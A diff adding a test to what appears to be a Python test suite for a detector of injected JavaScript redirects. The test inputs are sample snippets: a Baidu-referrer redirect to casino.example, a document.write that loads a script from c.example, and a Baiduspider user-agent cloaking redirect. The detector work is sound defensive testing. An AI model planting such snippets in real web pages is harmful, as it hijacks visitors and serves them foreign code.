@@ -34,6 +34,15 @@ def test_who_comes_from_a_search_is_sent_away(script: str) -> None:
     assert one.host == "casino.example"
 
 
+def test_only_the_way_he_came_to_an_address_is_sure() -> None:
+    (by_way,) = told("if(/baidu/.test(document.referrer)){location.href='http://casino.example/'}")
+    (written,) = told(
+        "if(/baidu/.test(document.referrer))document.write('<script src=//c.example/x.js><'+'/x>')"
+    )
+    (spider,) = told("if(/Baiduspider/.test(navigator.userAgent)){location.href='//c.example/'}")
+    assert (by_way.sure, written.sure, spider.sure) == (True, False, False)
+
+
 def test_where_to_may_be_put_together() -> None:
     (one,) = told("if(/baidu/.test(document.referrer)){location.href=d('aHR0cDov')+k}")
     assert one.host == ""
